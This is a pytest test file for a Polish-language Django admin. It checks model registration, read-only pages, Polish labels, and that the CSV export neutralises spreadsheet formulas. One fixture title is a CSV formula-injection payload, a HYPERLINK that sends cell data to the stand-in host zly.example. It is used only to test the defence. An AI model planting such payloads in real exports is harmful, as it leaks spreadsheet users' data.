"""Every model is editable in the admin, in Polish."""

import csv
import io

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.urls import reverse
from pytest_django.asserts import assertContains

from meetings.models import Meeting
from tests.factories import MeetingFactory

pytestmark = pytest.mark.django_db

REGISTERED = sorted(
    (model._meta.app_label, model._meta.model_name) for model in admin.site._registry
)


@pytest.fixture
def editor_client(client, django_user_model):
    call_command("load_archive", verbosity=0)
    user = django_user_model.objects.create_superuser("redaktor", password="x" * 16)
    client.force_login(user)
    return client


def test_every_domain_model_is_registered():
    domain_apps = {"departments", "organisations", "programmes", "meetings", "postulates"}
    registered_apps = {app for app, _ in REGISTERED}
    assert domain_apps <= registered_apps
    assert ("meetings", "meeting") in REGISTERED
    assert ("postulates", "position") in REGISTERED


@pytest.mark.parametrize(("app", "model"), REGISTERED)
def test_list_add_and_change_pages_open(editor_client, app, model):
    changelist = editor_client.get(reverse(f"admin:{app}_{model}_changelist"))
    assert changelist.status_code == 200
    add_page = editor_client.get(reverse(f"admin:{app}_{model}_add"))
    # The accessibility statement is a single record: it can be changed, never added twice.
    # Login attempts (django-axes) are records of what happened: nobody writes them by hand;
    # neither are the email alerts' addresses (people subscribe themselves), messages and queue.
    # A document's HTML version is read from its file, then corrected, never added by hand.
    read_only = model in ("accessibilitystatement", "documenttext") or app in (
        "axes",
        "alerts",
        "django_tasks_database",
    )
    assert add_page.status_code == (403 if read_only else 200)
    first = changelist.context["cl"].result_list[:1]
    if first:
        change_url = reverse(f"admin:{app}_{model}_change", args=[first[0].pk])
        assert editor_client.get(change_url).status_code == 200


def test_admin_speaks_polish(editor_client):
    response = editor_client.get(reverse("admin:index"))
    assertContains(response, "Spotkania i dokumenty")
    assertContains(response, "Postulaty i stanowiska")
    assertContains(response, "Wyloguj")


def csv_rows(content):
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))


def test_the_admin_export_neutralises_formulas_exactly_as_the_public_csv(admin_client):
    meeting = MeetingFactory(
        title='=HYPERLINK("http://zly.example/?dane="&A1;"Kliknij")',
        place="@SUMA(A1:A9)",
        topic="+48 12 616 00 00",
    )
    MeetingFactory(title="-5 lokali dla organizacji")
    MeetingFactory(title="\tukryta formuła")
    exported = admin_client.post(
        reverse("admin:meetings_meeting_changelist"),
        {
            "action": "export_as_csv",
            "_selected_action": list(Meeting.objects.values_list("pk", flat=True)),
        },
    )
    assert exported.status_code == 200
    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    assert exported["Content-Disposition"] == 'attachment; filename="meeting.csv"'
    admin_rows = {int(row["ID"]): row for row in csv_rows(exported.content)}
    public = admin_client.get("/spotkania/eksport.csv")
    public_rows = {
        int(row["Identyfikator"]): row for row in csv_rows(b"".join(public.streaming_content))
    }

    row, public_row = admin_rows[meeting.pk], public_rows[meeting.pk]
    assert row["tytuł"] == public_row["Tytuł"] == "'" + meeting.title
    assert row["miejsce"] == public_row["Miejsce"] == "'@SUMA(A1:A9)"
    assert row["temat"] == public_row["Temat"] == "'+48 12 616 00 00"
    for pk, public_row in public_rows.items():
        assert admin_rows[pk]["tytuł"] == public_row["Tytuł"]
        assert public_row["Tytuł"].startswith("'")
